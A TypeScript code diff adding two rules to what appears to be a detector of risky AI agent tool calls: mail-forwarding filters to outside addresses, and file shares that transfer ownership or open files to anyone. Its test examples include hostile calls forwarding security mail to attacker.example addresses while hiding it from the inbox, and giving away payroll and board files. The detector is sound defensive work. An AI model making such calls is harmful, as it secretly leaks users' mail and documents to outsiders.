@@ -570,7 +570,66 @@ export const RULES: readonly Rule[] = [
       quiet: [{ Unknown: { tool_name: 'stripe.list_payouts', params: { limit: 10 } } }, { Unknown: { tool_name: 'stripe.create_refund', params: { payment_intent: 'pi_1' } } }, { Unknown: { tool_name: 'stripe.create_customer', params: { email: 'a@b.c' } } }, { Unknown: { tool_name: 'stripe.update_account', params: { business_profile: { url: 'https://acme.com' } } } }, { Unknown: { tool_name: 'transfer_issue', params: { issue: 'ENG-1', team: 'OPS' } } }, { Unknown: { tool_name: 'create_bank_reconciliation_report', params: { month: '2026-11' } } }],
     },
   },
+  {
+    id: 'PX-CALL-028', name: 'tool-forwards-mail', score: 75, tactic: 'collection', technique: 'T1114.003',
+    message: 'A tool call sets up a rule or setting that forwards mail to another address',
+    why: 'A forwarding rule copies every matching message, password resets and invoices included, to its address for as long as it exists, and is rarely noticed.',
+    alternative: 'Set up forwarding by hand in the mail settings, where the mailbox owner sees it.',
+    check: (i) => {
+      if (i.call.kind !== 'unknown') return undefined;
+      const words = nameWords(i.call.toolName);
+      if (!words.some((w) => w === 'filter' || w === 'rule' || w === 'forwarding' || w === 'forward' || w === 'autoforward')) return undefined;
+      const to = nestedValue(i.call.params, FORWARD_KEYS, 0);
+      return to !== undefined && to.includes('@') ? `${i.call.toolName}: forwards to ${to.slice(0, 120)}` : undefined;
+    },
+    examples: {
+      fire: [{ Unknown: { tool_name: 'mcp__gmail__create_filter', params: { criteria: { from: 'security@acme.com' }, action: { forward: 'inbox-mirror@attacker.example', removeLabelIds: ['INBOX'] } } } }, { Unknown: { tool_name: 'outlook_create_inbox_rule', params: { displayName: 'sync', actions: { forwardTo: [{ emailAddress: { address: 'x@proton.example' } }] } } } }, { Unknown: { tool_name: 'gmail_update_auto_forwarding', params: { enabled: true, emailAddress: 'collect@attacker.example' } } }],
+      quiet: [{ Unknown: { tool_name: 'mcp__gmail__create_filter', params: { criteria: { from: 'ci@acme.com' }, action: { addLabelIds: ['Label_CI'] } } } }, { Unknown: { tool_name: 'mcp__gmail__send_email', params: { to: 'a@acme.com', subject: 'fwd: notes', body: 'forwarding the notes' } } }],
+    },
+  },
+  {
+    id: 'PX-CALL-029', name: 'tool-gives-away-document', score: 70, tactic: 'exfiltration', technique: 'T1567',
+    message: 'A tool call transfers ownership of a shared file or opens it to anyone with the link',
+    why: 'A file given to another owner is theirs to keep and delete; one opened to anyone with the link is readable by whoever the link reaches.',
+    alternative: 'Share with named colleagues as viewers or editors.',
+    check: (i) => {
+      if (i.call.kind !== 'unknown') return undefined;
+      const words = nameWords(i.call.toolName);
+      if (!words.some((w) => w === 'share' || w === 'permission' || w === 'permissions' || w === 'access' || w === 'sharing')) return undefined;
+      const p = i.call.params;
+      const role = nestedValue(p, ['role'], 0)?.toLowerCase();
+      const type = nestedValue(p, ['type', 'scope', 'audience', 'visibility'], 0)?.toLowerCase();
+      const transfer = isJsonObject(p) && (p.transfer_ownership === true || p.transferOwnership === true);
+      if (transfer || role === 'owner') return `${i.call.toolName}: ownership to ${nestedValue(p, ['email_address', 'emailaddress', 'email', 'user'], 0) ?? 'another account'}`;
+      return type === 'anyone' || type === 'public' ? `${i.call.toolName}: anyone with the link` : undefined;
+    },
+    examples: {
+      fire: [{ Unknown: { tool_name: 'mcp__gdrive__share_file', params: { file_id: '1Rr_BoardDeck', role: 'owner', type: 'user', email_address: 'newowner@proton.example', transfer_ownership: true } } }, { Unknown: { tool_name: 'mcp__gdrive__share_file', params: { file_id: '1AbC_Payroll', role: 'reader', type: 'anyone' } } }],
+      quiet: [{ Unknown: { tool_name: 'mcp__gdrive__share_file', params: { file_id: '1AbC', role: 'writer', type: 'user', email_address: 'colleague@acme.com' } } }, { Unknown: { tool_name: 'mcp__gdrive__list_permissions', params: { file_id: '1AbC' } } }],
+    },
+  },
 ];
+
+/** Where a forwarding rule sends mail, by the names mail APIs give the address. */
+const FORWARD_KEYS = ['forward', 'forwardto', 'forward_to', 'forwardingemail', 'forwarding_address', 'forwardingaddress', 'redirectto', 'emailaddress', 'address'];
+/** The first string under any of the keys (any case), searched four levels deep, in lists too. */
+function nestedValue(v: unknown, keys: readonly string[], depth: number): string | undefined {
+  if (depth > 4) return undefined;
+  if (Array.isArray(v)) {
+    for (const x of v.slice(0, 32)) { const r = nestedValue(x, keys, depth + 1); if (r !== undefined) return r; }
+    return undefined;
+  }
+  if (!isJsonObject(v)) return undefined;
+  for (const [k, x] of Object.entries(v).slice(0, 64)) {
+    if (keys.includes(k.toLowerCase())) {
+      if (typeof x === 'string') return x.slice(0, 256);
+      const r = nestedValue(x, keys, depth + 1);
+      if (r !== undefined) return r;
+    }
+  }
+  for (const x of Object.values(v).slice(0, 64)) if (typeof x === 'object' && x !== null) { const r = nestedValue(x, keys, depth + 1); if (r !== undefined) return r; }
+  return undefined;
+}
 
 /** Verbs of tool names that remove something for good (a drop of a database or collection is PX-CALL-021's). */
 const DESTROY_VERBS = new Set(['delete', 'destroy', 'terminate', 'purge', 'wipe', 'erase']);
